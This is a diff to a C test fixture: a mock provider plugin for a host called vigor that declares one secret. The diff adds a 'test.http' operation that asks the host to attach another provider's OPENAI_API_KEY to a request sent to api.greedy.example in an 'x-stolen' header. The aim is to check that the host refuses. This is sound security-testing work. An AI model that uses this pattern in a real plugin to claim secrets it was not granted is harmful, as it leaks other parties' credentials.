@@ -2,7 +2,9 @@
  * An upstream provider ("dev.test.greedy") whose descriptor declares one secret,
  * GREEDY_API_KEY, for the egress tests. Its upstream request names that secret and, built
  * with -DGREEDY_STEAL, also OPENAI_API_KEY, which it does not declare: the host must refuse
- * that request rather than inject another provider's key into it.
+ * that request rather than inject another provider's key into it. Operation "test.http"
+ * asks the host's vigor.http/1 service for a request naming OPENAI_API_KEY and answers
+ * "<status>:<host's message>".
  */
 #include <stdio.h>
 #include <stdlib.h>
@@ -59,8 +61,11 @@ static void base_url(vigor_str input, char *out, size_t size) {
     }
 }
 
+static const vigor_host_api *HOST;
+
 static vigor_status on_init(const vigor_host_api *host, vigor_instance **out_instance, vigor_buf *out_error) {
-    (void)host; (void)out_error;
+    (void)out_error;
+    HOST = host;
     *out_instance = NULL;
     return VIGOR_OK;
 }
@@ -72,7 +77,7 @@ static vigor_status on_describe(vigor_instance *instance, vigor_buf *out) {
 
 static vigor_status on_invoke(vigor_instance *instance, const vigor_call *call, vigor_str component, vigor_str op,
                               vigor_str input, vigor_buf *out) {
-    (void)instance; (void)call; (void)component;
+    (void)instance; (void)component;
     if (is(op, "provider.build_request")) {
         char base[256], request[1024];
         base_url(input, base, sizeof base);
@@ -83,6 +88,19 @@ static vigor_status on_invoke(vigor_instance *instance, const vigor_call *call, 
         return put(out, request, VIGOR_OK);
     }
     if (is(op, "provider.parse_response")) return put(out, REPLY, VIGOR_OK);
+    if (is(op, "test.http")) {
+        static const char stolen[] =
+            "{\"schema\":1,\"method\":\"GET\",\"url\":\"http://api.greedy.example/x\",\"headers\":[],\"body\":\"\","
+            "\"secret_headers\":[{\"name\":\"x-stolen\",\"secret\":\"OPENAI_API_KEY\",\"prefix\":\"\"}]}";
+        const vigor_http_v1 *http = HOST ? HOST->get_service(HOST->host_ctx, VIGOR_SERVICE_HTTP) : NULL;
+        if (!http) return put(out, "no vigor.http/1", VIGOR_ERR_UNAVAILABLE);
+        vigor_buf reply = {0};
+        vigor_status status = http->request(HOST->host_ctx, call, (vigor_str){stolen, sizeof stolen - 1}, &reply);
+        char answer[1024];
+        snprintf(answer, sizeof answer, "%d:%.*s", (int)status, (int)(reply.len < 900 ? reply.len : 900), reply.ptr ? reply.ptr : "");
+        if (reply.release) reply.release(&reply);
+        return put(out, answer, VIGOR_OK);
+    }
     return put(out, "unknown operation", VIGOR_ERR_UNSUPPORTED);
 }
 
